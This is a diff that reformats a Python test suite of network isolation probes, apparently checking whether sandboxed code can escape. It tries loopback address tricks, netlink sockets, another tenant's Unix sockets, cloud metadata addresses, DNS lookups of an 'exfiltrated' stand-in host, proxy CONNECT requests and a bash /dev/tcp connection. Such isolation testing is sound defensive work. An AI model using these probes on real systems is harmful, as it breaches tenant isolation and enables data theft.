@@ -35,7 +35,10 @@ def handler_s_port(aim: Aim, loot: Loot) -> None:
     for address in (*addresses(aim), "127.0.0.1", "::1", "0.0.0.0", "::", "127.9.9.9", "::ffff:127.0.0.1"):
         loot.attempt(f"handler at {address}", ask, address, aim.port)
     for name in ("localhost", "ip6-localhost", "127.1", "2130706433", "0x7f000001", "017700000001"):
-        loot.attempt(f"handler at {name}", lambda name=name: reach("socket").create_connection((name, aim.port), 2) and "connected")
+        loot.attempt(
+            f"handler at {name}",
+            lambda name=name: reach("socket").create_connection((name, aim.port), 2) and "connected",
+        )
 
 
 @attack
@@ -87,7 +90,9 @@ def connects_anew(aim: Aim, loot: Loot) -> None:
             one.setsockopt(socket.SOL_SOCKET, option, struct.pack("=qq", 1, 0))
         unspecified = types.create_string_buffer(16)
         syscall("connect", one.fileno(), unspecified, 16)
-        to = types.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H", aim.outside_port) + bytes([127, 0, 0, 1]) + bytes(8))
+        to = types.create_string_buffer(
+            struct.pack("=H", 2) + struct.pack(">H", aim.outside_port) + bytes([127, 0, 0, 1]) + bytes(8)
+        )
         syscall("connect", one.fileno(), to, 16)
         return one.recv(64)
 
@@ -109,7 +114,12 @@ def datagrams(aim: Aim, loot: Loot) -> None:
                     else:
                         one.sendto(b"datagram of an attacker", (address, aim.outside_port))
                     # A vector of messages is another call.
-                    one.sendmsg([b"datagram of an attacker"], [], 0, None if connected else (address, aim.outside_port))
+                    one.sendmsg(
+                        [b"datagram of an attacker"],
+                        [],
+                        0,
+                        None if connected else (address, aim.outside_port),
+                    )
                     loot.attempt(f"answer from {address}", one.recv, 64)
             except Exception:
                 continue
@@ -148,7 +158,15 @@ def netlink(aim: Aim, loot: Loot) -> None:
             return b"169.254" if socket.inet_aton("169.254.169.254") in answer else b""
 
     loot.attempt("addresses", addresses_of_machine)
-    for name, protocol in (("audit", 9), ("connector", 11), ("netfilter", 12), ("kobject", 15), ("selinux", 7), ("xfrm", 6), ("generic", 16)):
+    for name, protocol in (
+        ("audit", 9),
+        ("connector", 11),
+        ("netfilter", 12),
+        ("kobject", 15),
+        ("selinux", 7),
+        ("xfrm", 6),
+        ("generic", 16),
+    ):
 
         def subscribe(protocol: int = protocol) -> str:
             with socket.socket(16, 3, protocol) as one:
@@ -200,7 +218,11 @@ def listens(aim: Aim, loot: Loot) -> None:
 def local_sockets(aim: Aim, loot: Loot) -> None:
     """AF_UNIX by path, by its detours and by abstract name, of every kind."""
     socket = reach("socket")
-    where = {"path": aim.unix_path, "abstract": "\0" + str(aim.abstract), "path of /proc": "/proc/self/root" + str(aim.unix_path)}
+    where = {
+        "path": aim.unix_path,
+        "abstract": "\0" + str(aim.abstract),
+        "path of /proc": "/proc/self/root" + str(aim.unix_path),
+    }
     for pid in (1, aim.handler, aim.zygote):
         where[f"root of {pid}"] = f"/proc/{pid}/root{aim.unix_path}"
     where["path of the machine's bus"] = "/run/dbus/system_bus_socket"
@@ -229,7 +251,10 @@ def local_sockets(aim: Aim, loot: Loot) -> None:
 def victim_s_sockets(aim: Aim, loot: Loot) -> None:
     """What the other organization's run listens on."""
     socket = reach("socket")
-    for name, address in {"path": f"{aim.victim_scratch}/victim.socket", "abstract": f"\0weft-victim-{aim.token}"}.items():
+    for name, address in {
+        "path": f"{aim.victim_scratch}/victim.socket",
+        "abstract": f"\0weft-victim-{aim.token}",
+    }.items():
 
         def talk(address: str = address) -> bytes:
             with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
@@ -248,9 +273,15 @@ def names(aim: Aim, loot: Loot) -> None:
     for name in (f"exfiltrated-{aim.token}.example.com", "localhost", "metadata.google.internal"):
         loot.attempt(
             f"name {name}",
-            lambda name=name: [found[4][0] for found in socket.getaddrinfo(name, 80) if found[4][0] in addresses(aim)],
+            lambda name=name: [
+                found[4][0] for found in socket.getaddrinfo(name, 80) if found[4][0] in addresses(aim)
+            ],
         )
-    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x0bexfiltrated\x07example\x03com\0" + struct.pack(">HH", 1, 1)
+    question = (
+        struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
+        + b"\x0bexfiltrated\x07example\x03com\0"
+        + struct.pack(">HH", 1, 1)
+    )
     for address in ("127.0.0.53", "127.0.0.1", "168.63.129.16", "169.254.169.253"):
 
         def over_udp(address: str = address) -> bytes:
@@ -267,8 +298,22 @@ def by_programs(aim: Aim, loot: Loot) -> None:
     """curl, bash, a Python of its own."""
     for address in addresses(aim)[:4]:
         where = f"[{address}]" if ":" in address else address
-        loot.attempt(f"curl {address}", run_program, "/usr/bin/curl", "-s", "-m", "1", f"http://{where}:{aim.outside_port}/")
-    loot.attempt("bash", run_program, "/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{aim.outside_port} && head -c 20 <&3")
+        loot.attempt(
+            f"curl {address}",
+            run_program,
+            "/usr/bin/curl",
+            "-s",
+            "-m",
+            "1",
+            f"http://{where}:{aim.outside_port}/",
+        )
+    loot.attempt(
+        "bash",
+        run_program,
+        "/bin/bash",
+        "-c",
+        f"exec 3<>/dev/tcp/127.0.0.1/{aim.outside_port} && head -c 20 <&3",
+    )
     code = f"import socket; print(socket.create_connection(('127.0.0.1', {aim.outside_port}), 1).recv(20))"
     loot.attempt("python", run_program, "/usr/bin/python3", "-I", "-c", code)
 
@@ -282,7 +327,10 @@ def by_proxy(aim: Aim, loot: Loot) -> None:
     socket = reach("socket")
     host, _, port = proxy.rpartition("//")[2].rpartition("@")[2].rstrip("/").rpartition(":")
     for address in addresses(aim):
-        for request in (f"CONNECT {address}:{aim.outside_port} HTTP/1.1\r\n\r\n", f"GET http://{address}:{aim.outside_port}/ HTTP/1.1\r\nHost: x\r\n\r\n"):
+        for request in (
+            f"CONNECT {address}:{aim.outside_port} HTTP/1.1\r\n\r\n",
+            f"GET http://{address}:{aim.outside_port}/ HTTP/1.1\r\nHost: x\r\n\r\n",
+        ):
 
             def through(request: str = request) -> bytes:
                 with socket.create_connection((host, int(port)), 2) as one:
